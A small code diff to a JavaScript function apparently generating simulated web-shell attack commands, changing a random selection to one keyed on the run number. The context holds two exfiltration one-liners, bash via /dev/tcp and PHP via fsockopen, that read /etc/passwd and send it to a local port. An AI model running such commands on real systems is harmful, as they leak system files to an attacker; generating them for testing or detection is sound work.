@@ -336,7 +336,7 @@ export async function webShell(port, r, run) {
   });
   const commands = [
     ...RECON.filter(() => r.random() < 0.7),
-    r.int(2) === 0
+    run % 2 === 0
       ? `bash -c 'cat /etc/passwd > /dev/tcp/127.0.0.1/${back.port}'`
       : `php -r '$s=fsockopen("127.0.0.1",${back.port});fwrite($s,php_uname()."\\n".file_get_contents("/etc/passwd"));'`,
   ];
